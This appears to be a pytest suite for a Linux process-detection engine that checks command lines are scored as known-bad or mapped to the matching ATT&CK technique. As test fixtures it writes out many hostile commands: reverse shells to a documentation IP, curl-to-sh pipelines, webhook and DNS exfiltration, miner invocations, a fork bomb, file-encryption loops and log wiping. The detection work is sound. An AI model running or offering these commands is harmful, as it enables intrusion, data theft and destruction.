"""What words mean on any Linux system: what an exec is told says what it is about, and no more than that."""

import shlex

import pytest
from detection.cluster import Cluster, alerts, analyse
from detection.execs import exec_of
from peerwatch.columns import ProcessFlag

from collector.detect.argument_context import traits
from collector.detect.context import of_connect
from collector.detect.tools import Level


def test_a_helper_from_a_temporary_folder_is_none() -> None:
    assert exec_of("/tmp/<file>", "convert").level is Level.STRONG


@pytest.mark.parametrize(
    ("parent", "level"),
    [
        ("/usr/bin/node", Level.SUSPICIOUS),
        ("/usr/bin/php-cgi8.2", Level.SUSPICIOUS),
        ("/usr/bin/java", Level.KNOWN_BAD),
        ("/usr/bin/php8.2", Level.KNOWN_BAD),
    ],
)
def test_a_pair_of_sockets_instead_of_pipes_is_no_remote_shell(parent: str, level: Level) -> None:
    assert exec_of("/usr/bin/dash", "sh", "-c", "ls /srv", parent=parent, socket=True).level is level


@pytest.mark.parametrize(
    ("arguments", "level"),
    [
        (("sh",), Level.KNOWN_BAD),
        (("bash", "-li"), Level.KNOWN_BAD),
        (("bash", "--rcfile", "/srv/rc", "-i"), Level.KNOWN_BAD),
        (("sh", "-s", "/srv/x"), Level.KNOWN_BAD),
        (("sh", "-c", "id"), Level.KNOWN_BAD),
        (("sh", "/dev/stdin"), Level.KNOWN_BAD),
        (("bash", "/proc/self/fd/0"), Level.KNOWN_BAD),
        (("busybox", "sh"), Level.KNOWN_BAD),
        (("/bin/busybox", "/bin/sh", "-i"), Level.KNOWN_BAD),
        ((), Level.KNOWN_BAD),  # what was not seen excuses nothing
        (("sh", "/etc/munin/plugins/cpu"), Level.NEUTRAL),
        (("sh", "-e", "/srv/check.sh", "-c", "90"), Level.SUSPICIOUS),
    ],
)
def test_a_shell_that_runs_a_script_takes_no_commands_from_its_socket(arguments: tuple[str, ...], level: Level) -> None:
    assert exec_of("/usr/bin/dash", *arguments, parent="/usr/bin/perl", socket=True).level is level


@pytest.mark.parametrize(
    "words",
    [
        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/p",
        "nc -e /bin/sh 203.0.113.9 443",
        "ncat 203.0.113.9 443 --sh-exec sh",
        "socat tcp:203.0.113.9:443 exec:/bin/sh,pty",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0)'",
        'php -r \'$s=fsockopen("203.0.113.9",443);exec("/bin/sh -i <&3 >&3");\'',
        "./m -o stratum+tcp://203.0.113.9:3333",
        ":(){ :|:& };:",
        'python3 -c \'import socket,subprocess; s=socket.socket(); s.connect(("203.0.113.9",80)); subprocess.call(["sh"])\'',
        'php -r \'$s=fsockopen("203.0.113.9",80); proc_open("sh", [], $p);\'',
        "server --algo rx/0 -o pool",
    ],
)
def test_what_nothing_normal_is_told_is_known_at_once(words: str) -> None:
    assert exec_of("/usr/bin/dash", "sh", "-c", words).level is Level.KNOWN_BAD


@pytest.mark.parametrize(
    "words",
    [
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET /health HTTP/1.1' >&3; cat <&3",
        "nc -z db 5432 && exec server",
        "mkfifo /run/log; cat /run/log | grep -v debug",
        "python3 -c 'import socket; socket.create_connection((\"db\", 5432))'",
        "socat - UNIX-CONNECT:/run/haproxy.sock",
    ],
)
def test_what_probes_and_entrypoints_are_told_is_not_known_bad(words: str) -> None:
    assert exec_of("/usr/bin/dash", "sh", "-c", words).level < Level.KNOWN_BAD


def test_hostile_words_cost_no_time() -> None:
    pieces = (  # noqa: SIM905 — texts
        "mkfifo|sh|nc ;sh -;grep -;ls -;find / -;curl -F a;nc -;exec(;/dev/tcp/;kill -;rm ;> a.p;>a;truncate /var/;caption:@/;"
        "file:///;alias.;-c set ;from program;cp /a/;tee a.p;curl -o;system ('; :! ;touch -;/tmp/.;script -;yes ;"
        "$(;`;-exec ;timeout ;sudo -u ;eval $(;|sh ;/;rm -r ;sed -i ;ip a ;select ;\\x41;).a.;{echo,;/a?;kill falco"
    ).split(";")
    for piece in pieces:
        exec_of("/usr/bin/dash", "sh", "-c", piece * (8192 // len(piece)))  # the suite's limit for a test is the assertion


@pytest.mark.parametrize(
    ("target", "level"), [("xmr.pool.site:443/tcp", Level.KNOWN_BAD), ("pool.ntp.org:123/udp", Level.ROUTINE)]
)
def test_a_mining_pool_is_known_by_its_name(target: str, level: Level) -> None:
    assert of_connect(program="/usr/bin/server", target=target).level is level


def test_what_starts_the_entry_by_itself_is_odd() -> None:
    assert exec_of("/proc/self/exe", "x", parent="", injected=True).level is Level.STRONG


def test_what_no_probe_needs_is_told_in_first_minutes(cluster: Cluster) -> None:
    pods = cluster.pods(1)
    cluster.normal(pods, 0, 600)
    cluster.exec(100.5, pods[0], "/usr/sbin/modprobe", parent="", args=("modprobe", "x"), flags=(ProcessFlag.INJECTED,))

    (alert,) = alerts(analyse(cluster, until=600))

    assert "loads kernel modules" in alert.reason


@pytest.mark.parametrize(
    ("words", "technique"),
    [
        ("cat /var/lib/rabbitmq/.erlang.cookie", "T1552.001"),
        ("psql -Atc 'select usename, passwd from pg_shadow'", "T1555"),
        ("curl -s -T /srv/tasks.py http://hooks.partner/in", "T1048"),
        ("cat /proc/net/tcp", "T1016"),
        ("ls -l /proc/1/exe", "T1057"),
        ("cat /etc/os-release", "T1082"),
        ("ls -la /root/.ssh", "T1552.004"),
        ("echo PD9waHA= | base64 -d >/srv/up/a.php", "T1505.003"),
        (": > /var/log/app.log", "T1070.002"),
        ("id; >/var/log/app.log", "T1070.002"),
        ("echo '' > /var/log/app.log", "T1070.002"),
        ("rm -f /var/log/wtmp", "T1070.002"),
        ("cat /dev/null >/var/log/auth.log", "T1070.002"),
        ("export HISTSIZE=0", "T1070.003"),
        ("gpg --homedir /srv/keys --export-secret-keys -a", "T1552.004"),
        ("find /srv -type f -exec gpg --batch -c --passphrase x {} ;", "T1486"),
        ("for f in /srv/*; do openssl enc -aes-256-cbc -in $f -out $f.x -k pw && rm $f; done", "T1486"),
        ("apt-get update -qq; apt-get install -y -qq netcat-openbsd", "T1588.002"),
        ("cd /srv/www;pwd;ls;echo [S]", "T1505.003"),
        ("mosquitto_sub -h localhost -t '#' -v", "T1213"),
        ("postconf -e always_bcc=x@partner.example.com", "T1114.003"),
        ("psql -c \"copy t from program 'id'\"", "T1059"),
        ("redis-cli config set dir /var/spool", "T1059"),
        ("redis-cli FLUSHALL", "T1485"),
        ("mysql -e 'create user x'", "T1136"),
        ("convert caption:@/etc/hostname x.png", "T1203"),
        ("wkhtmltopdf file:///etc/hostname x.pdf", "T1203"),
        ("gs -q -dNOSAFER x.ps", "T1203"),
        ("tar cf /dev/null x --checkpoint-action=exec=sh", "T1202"),
        ("git -c core.fsmonitor=x status", "T1202"),
        ("set", "T1082"),
        ("declare -p | sort", "T1082"),
        ("cat /srv/x | sh -e", "T1059.004"),
        ("cat /srv/x | python3 -", "T1059.004"),
        ("cat /srv/x | perl", "T1059.004"),
        ("perl -e 'exec \"/bin/sh\"'", "T1059.004"),
        ("find . -exec /bin/sh ';'", "T1059.004"),
        ("for p in 22 80; do nc -z db $p; done", "T1095"),
        ("nc -z db 1-1024", "T1095"),
        ("nc -z -w 1 10.0.0.9 6379", "T1095"),
        ("if true; then /tmp/a & fi", "T1036.005"),
        ("(exec -a 'php-fpm: pool www' /var/tmp/a &)", "T1036.005"),
        ("sh -c 'nohup /dev/shm/a &'", "T1036.005"),
        ("PYTHONPATH=/tmp python3 -m a", "T1059"),
        ("NODE_OPTIONS='--require /tmp/a.js' node server.js", "T1059"),
        ("BASH_ENV=/tmp/a bash -c true", "T1059"),
        ("cp a.service /usr/lib/systemd/system/", "T1546"),
        ("git config --global core.hooksPath /srv/h", "T1546"),
        ("cp a.py /usr/lib/python3/dist-packages/sitecustomize.py", "T1546"),
        ("echo vm.nr_hugepages=128 | tee -a /etc/sysctl.conf", "T1565.001"),
        ("cp a.so /usr/lib/a.so", "T1565.001"),
        ("curl -o /usr/sbin/a http://db/a", "T1036.003"),
        ("cp a /host/usr/local/bin/a", "T1036.003"),
        ("ls /rootfs/home", "T1611"),
        ("find /host/var/lib/kubelet -name token", "T1611"),
        ("pnscan 10.0.0.0/16 6379", "T1018"),
        ("scan 10.0.1.0-255 22", "T1018"),
        ("tee /var/log/auth.log < /dev/null", "T1070.002"),
        ("find /var/log -type f -delete", "T1070.002"),
        ("mkdir /tmp/.ICE-unix/.a", "T1564.001"),
        ("rm -rf /var/lib/mysql", "T1485"),
        ("tar czf a.tgz /srv --remove-files", "T1485"),
        ("chmod -R 000 /", "T1485"),
        ("lvremove -f vg0/snap", "T1485"),
        ("vault kv get secret/app", "T1555"),
        ("etcdctl get /registry/secrets/default --prefix", "T1213"),
        ("grep -rho ghp_ /home", "T1552.001"),
        ("cat ~/.config/gh/hosts.yml", "T1552.001"),
        ('node -e \'eval(Buffer.from("eA==","base64").toString())\'', "T1027"),
        ("erl -noshell -eval 'os:cmd(\"id\").'", "T1059"),
        ("redis-cli system.exec id", "T1059"),
        ("./a -o pool.supportxmr.com:443", "T1496.001"),
        ("sh ./deepce.sh", "T1613"),
        ("./chisel_1.9.1_linux_amd64 client a", "T1572"),
        ("usermod -o -u 0 app", "T1136.001"),
        ("sysctl -w kernel.nmi_watchdog=0", "T1562.001"),
        ("cat </dev/tcp/203.0.113.9/80", "T1059.004"),
        ("LD_PRELOAD=/srv/x.so server", "T1574.006"),
        ("etcdctl del '' --from-key", "T1485"),
        ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "T1059.004"),
        ("script -qc /bin/bash /dev/null", "T1059.004"),
        ("cp a.php /var/www/html/", "T1505.003"),
        ("wget -qO /srv/www/a.jsp http://10.0.0.9/a", "T1505.003"),
        ("touch -r /bin/ls /srv/x", "T1070.006"),
        ("mv /bin/ps /bin/.ps", "T1036.003"),
        ("mkdir /tmp/.hidden", "T1564.001"),
        ("echo 0 > /proc/sys/kernel/randomize_va_space", "T1562.001"),
        ("cat /sys/class/dmi/id/product_name", "T1082"),
        ("service rsyslog stop", "T1489"),
        ("yes > /dev/null", "T1499"),
        ("cp x.crt /usr/local/share/ca-certificates/", "T1553.004"),
        ("cp /root/.mozilla/firefox/x/logins.json /srv", "T1552.001"),
        ("w; last -20", "T1033"),
        ("ps aux | egrep 'falcond|nessusd'", "T1518.001"),
        ("systemctl stop apparmor.service", "T1518.001"),
        ("cat /etc/group", "T1087.001"),
        ("cat /etc/login.defs", "T1201"),
        ("echo 0> /var/spool/mail/root", "T1070.002"),
        ("echo x | at now + 1 minute", "T1053.002"),
        ("etcdctl get / --prefix --keys-only", "T1213"),
        ("etcdctl --endpoints x get '' --prefix", "T1213"),
        ("etcdctl get --from-key ''", "T1213"),
        ("redis-cli -h db keys '*'", "T1213"),
        ("printf 'stats items' | nc -w 1 127.0.0.1 11211", "T1213"),
        ("cat /proc/mounts", "T1082"),
        ("ls /var/lib/kubelet/pods", "T1497.001"),
        ("python3 -c 'import base64; exec(base64.b64decode(\"eA==\"))'", "T1027"),
        ("python3 -m http.server 8000", "T1048.003"),
        ("curl -s x | sh >/dev/null 2>&1", "T1059.004"),
        ("wget -qO- x | busybox sh", "T1059.004"),
        ('eval "$(curl -s x)"', "T1059.004"),
        ("bash <(curl -s x)", "T1059.004"),
        ("bash <<< id", "T1059.004"),
        ("mkdir /tmp/.x", "T1564.001"),
        ("mkdir /dev/shm/...", "T1564.001"),
        ("/bin/bash -p", "T1548.001"),
        ("{echo,aWQ=}|{base64,-d}|{bash,-i}", "T1027"),
        ("cat${IFS}/srv/x", "T1027"),
        ("/???/c?t /srv/x", "T1027"),
        ("printf '\\x7fELF' > /srv/x", "T1027"),
        ("sh /tmp/a.sh", "T1059"),
        ("java -jar /tmp/a.jar", "T1059"),
        ("nohup /tmp/a &", "T1036.005"),
        ("vim -c ':!/bin/sh'", "T1059.004"),
        ("pkill -9 falcon-sensor", "T1562.001"),
        ("nslookup $(id -un).x.example", "T1048"),
        ("curl -d @- https://webhook.site/1", "T1048"),
        ("dmesg -C", "T1070.002"),
        ("for i in 1 2; do ping -c 1 10.0.0.$i; done", "T1018"),
        ("ip link set eth0 promisc on", "T1562.004"),
        ("rm /usr/bin/ps", "T1070.004"),
        ("chmod 666 /etc/passwd", "T1098"),
        ("sed -i s/no/yes/ /etc/ssh/sshd_config", "T1098"),
        ("sed -i '$ a #x' /etc/rsyslog.conf", "T1562.006"),
        ("mkdir /bin/x", "T1036.003"),
        ("while true; do :; done", "T1499"),
        ("psql -c 'select name, password from users'", "T1555"),
        ("pkill xmrig", "T1496.001"),
        ("echo x >> ~/.profile", "T1546.004"),
        ("dd if=/dev/sda1 of=/srv/x", "T1611"),
        ("curl http://169.254.170.2/v2/credentials", "T1552.005"),
        ("curl -k https://10.0.0.1:10250/pods", "T1613"),
        ("etcdctl --endpoints http://10.0.0.1:2379 get /x", "T1613"),
        ("head -n 30 /proc/self/net/tcp6", "T1049"),
        ("doveadm -c /srv/d.conf fetch -u p1 text all", "T1114.001"),
        ("ls -laR /opt 2>/dev/null", "T1083"),
        ("du -ah / | sort -rh", "T1083"),
        ("python3 -c 'import os; os.system(\"id\")'", "T1059"),
        ("php -r 'shell_exec(\"id\");'", "T1059"),
        ("perl -e'system(\"id\")'", "T1059"),
        ('python3 -c \'import socket; print("localhost"); socket.create_connection(("10.0.0.1", 80))\'', "T1059"),
        ("su - root -c id", "T1548.003"),
        ("sudo id", "T1548.003"),
    ],
)
def test_words_say_what_they_are_about(words: str, technique: str) -> None:
    assert technique in exec_of("/usr/bin/dash", "sh", "-c", words).techniques


@pytest.mark.parametrize(
    ("words", "technique"),
    [
        ("ls /tmp/.X11-unix", "T1564.001"),
        ("ls /tmp/.cache", "T1564.001"),
        (". /etc/profile && exec server", "T1546.004"),
        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 exec server", "T1574.006"),
        ("echo > /dev/tcp/localhost/8080", "T1059.004"),
        ("python3 -c 'import socket; socket.create_connection((\"localhost\", 80))'", "T1059"),
        ("python3 -Xfaulthandler /srv/x.py --requests 5", "T1059"),
        ("etcdctl --endpoints https://127.0.0.1:2379 endpoint health", "T1613"),
        ("etcdctl --endpoints http://etcd.data:2379 get /app/level", "T1613"),
        ("grep -c ' 01 ' /proc/net/tcp", "T1049"),
        ("du -sh /", "T1083"),
        ("doveadm fetch -u p1 'uid mailbox' all", "T1114.001"),
        ("su postgres -s /bin/bash -c psql", "T1548.003"),
        ("runuser -u app server", "T1548.003"),
        ("sudo -u app server", "T1548.003"),
        ("pkill -USR1 -x nginx", "T1489"),
        ("cat /srv/2.10.4.1/VERSION", "T1105"),
        ("ssh -p 22 host", "T1548.001"),
        ("clear; (bash || ash || sh)", "T1059.004"),
        ("until nc -z db 5432; do sleep 1; done", "T1095"),
        ("until timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done", "T1059.004"),
        ("export LD_PRELOAD=libnss_wrapper.so", "T1574.006"),
        ("etcdctl --cacert=/etc/kubernetes/pki/etcd/ca.crt endpoint health", "T1552.001"),
        ("echo never > /sys/kernel/mm/transparent_hugepage/enabled", "T1562.001"),
        ("sysctl -n net.core.somaxconn", "T1562.001"),
        ("usermod -u 1000 app && groupmod -o -g $GID app", "T1136.001"),
        ("ssh-keygen -A", "T1021.004"),
        ("getent passwd app", "T1552.001"),
        ("cat /etc/ssl/certs/ca.pem", "T1552.001"),
        ("cat /proc/1/status", "T1497.001"),
        ("find / -xdev -size +500M", "T1083"),
    ],
)
def test_what_services_are_told_is_not_taken_for_more(words: str, technique: str) -> None:
    assert technique not in exec_of("/usr/bin/dash", "sh", "-c", words, parent="/usr/bin/bash").techniques


@pytest.mark.parametrize(
    ("words", "level"),
    [
        ("python3 -c 'import os; os.system(\"id\")'", Level.STRONG),
        ("awk 'BEGIN {system(\"id\")}'", Level.STRONG),
        ("git -c core.fsmonitor=x status", Level.STRONG),
        ("perl /srv/linpeas.sh", Level.STRONG),
        ("python3 -c 'print(1)'", Level.NEUTRAL),
        ("server --password-file /run/x", Level.NEUTRAL),
    ],
)
def test_what_a_service_starts_by_itself_is_judged_by_what_it_is_told_if_that_is_hardly_ever_normal(
    words: str, level: Level
) -> None:
    assert exec_of(f"/usr/bin/{words.split(maxsplit=1)[0]}", *shlex.split(words), parent="/srv/server").level is level


@pytest.mark.parametrize(
    ("words", "technique"),
    [
        ("curl -fsS -t 5 http://localhost/healthz", "T1048"),
        ("netstat -tlnp", "T1048"),
        ("echo 10.0.0.9 >>/etc/hosts", "T1016"),
        ("cp /var/log/app.log /srv/logs/", "T1070.002"),
        ("tail /var/log/app.log > /tmp/x", "T1070.002"),
        ("php a.php > /tmp/a.html", "T1505.003"),
        ("gpg --export -a", "T1552.004"),
        ("psql -c 'select program from t'", "T1059"),
        ("redis-cli config get dir", "T1059"),
        ("set -e; nginx", "T1082"),
        ("date >> /var/log/app.log", "T1070.002"),
        ("/srv/job > /var/log/job.log 2>&1", "T1070.002"),
        ("psql -c 'select id from program where id = 7'", "T1059"),
        ("module load gcc", "T1059"),
        ("sqlite3 /srv/x .dump | python3 -m json.tool", "T1059.004"),
        ("wget -q -T 5 -O - http://localhost/ready", "T1048"),
        ("rm -rf /var/lib/apt/lists/*", "T1485"),
        ("find /var/log/app -name '*.gz' -mtime +7 -delete", "T1070.002"),
        ("for f in /srv/*.enc; do openssl enc -aes-256-cbc -in $f -d -out x; done", "T1486"),
        ("for f in /srv/*.sql; do gpg --encrypt -r backup $f; done", "T1486"),
        ("find /srv -name '*.log' -exec gzip -c {} +", "T1486"),
        ("postconf always_bcc", "T1114.003"),
        ("git -c core.hooksPath= gc --quiet", "T1546"),
        ("find /var/run -type f -delete", "T1485"),
        ("find /srv/shop -name '*.pid' -delete", "T1485"),
        ("find /backup -mtime +7 -delete", "T1485"),
        ("mosquitto_sub -h db -t shop/orders -C 1", "T1213"),
        ("df -P /host/var/log", "T1611"),
        ("nginx -c /tmp/nginx.conf", "T1036.005"),
        ("server --path=/tmp --log-path=/tmp/x", "T1059"),
        ("java -Djavax.net.ssl.keyStore=/srv/x -jar a.jar", "T1552.001"),
        ("bash -x /srv/run.sh", "T1202"),
        ("cp /srv/a.conf /etc/app.conf", "T1565.001"),
        ("ls /tmp/.X11-unix/X0 /tmp/.ICE-unix/7", "T1564.001"),
        ("server --cluster-cidr=10.0.0.0/16", "T1018"),
        ("python3 /srv/batch.py", "T1053.002"),
        ("echo A | perl -ne 'print lc' >/srv/x", "T1059.004"),
        ("cat /srv/x | sh -c 'cat >/srv/y'", "T1059.004"),
        ("wget -qO- http://127.0.0.1:8080/index.jsp", "T1505.003"),
        ("touch /srv/alive", "T1070.006"),
        ("cp /srv/bin/x /srv/y", "T1036.003"),
        ("ls /tmp/.X11-unix /tmp/.s.PGSQL.5432", "T1564.001"),
        ("echo ready > /proc/1/fd/1", "T1562.001"),
        ("yes | sort", "T1499"),
        ("wkhtmltopdf file:///srv/tmp/x.html x.pdf", "T1203"),
        ("clamscan /srv/up/x", "T1518.001"),
        ("etcdctl get /registry/leases/x --prefix", "T1213"),
        ("etcdctl get --prefix /svc/leader", "T1213"),
        ("redis-cli get keys", "T1213"),
        ("mysqldump --all-databases", "T1213"),
        ("osqueryd --flagfile /etc/osquery.flags", "T1518.001"),
        ("ls /srv/falconry", "T1518.001"),
        ("python3 -m json.tool", "T1048.003"),
        ("collect2 -m elf_x86_64 -dynamic-linker /lib64/ld-linux-x86-64.so.2 -pie -o /tmp/x /tmp/cc7.o", "T1059"),
    ],
)
def test_words_that_look_alike_say_nothing_of_it(words: str, technique: str) -> None:
    assert all(technique not in each.techniques for each in traits("/usr/bin/dash", ("sh", "-c", words)))


def test_a_shell_that_a_search_runs_on_each_file_is_no_escape() -> None:
    assert all(
        each.why != "it makes a program a shell" for each in traits("/usr/bin/find", ("find", "/", "-exec", "sh", "-c", "x"))
    )


@pytest.mark.parametrize(("program", "told"), [('BEGIN {system("/bin/sh")}', True), ("/requests/ {print $1}", False)])
def test_an_awk_program_that_starts_others_is_code(program: str, *, told: bool) -> None:
    assert any("code" in each.why for each in traits("/usr/bin/gawk", ("awk", program))) is told


@pytest.mark.parametrize(
    ("words", "technique"),
    [
        ("LD_PRELOAD=libc.so:/srv/x.so server", "T1574.006"),
        ("LD_PRELOAD=/usr/lib/a.so:/srv/x.so server", "T1574.006"),
        ("LD_PRELOAD=/usr/lib/../../srv/x.so server", "T1574.006"),
        ("dd if=/etc/kubernetes/pki/ca.key of=/srv/x", "T1552.001"),
        ("F=/etc/kubernetes/pki/ca.key; cat $F", "T1552.001"),
        ("find / -size +0", "T1083"),
        ("find / -size +1M -delete", "T1083"),
        ("find / -xdev -size +1M -exec cp {} /srv +", "T1083"),
        ("openssl req -engine /srv/x.so", "T1202"),
        ("echo x > /sys/kernel/mm/transparent_hugepage/../x", "T1562.001"),
        ("mkfifo /srv/s; sh -i </srv/s 2>&1 | openssl s_client -connect api:443 >/srv/s", "T1059.004"),
    ],
)
def test_what_looks_like_a_service_s_words_at_first_is_read_to_its_end(words: str, technique: str) -> None:
    assert any(technique in each.techniques for each in traits("/usr/bin/dash", ("sh", "-c", words)))


@pytest.mark.parametrize(
    "words",
    [
        "LD_PRELOAD=/usr/lib/$(uname -m)-linux-gnu/libjemalloc.so.2 server",
        "find / -xdev -type f -size +100M -exec ls -lh {} +",
        "find / -name '*.log' -size +1G",
        "server --etcd-cafile=/etc/kubernetes/pki/etcd/ca.crt --etcd-keyfile=/etc/kubernetes/pki/x.key",
    ],
)
def test_a_service_s_words_say_nothing_to_their_end(words: str) -> None:
    said = {each for found in traits("/usr/bin/dash", ("sh", "-c", words)) for each in found.techniques}
    assert not {"T1574.006", "T1083", "T1552.001"}.intersection(said)
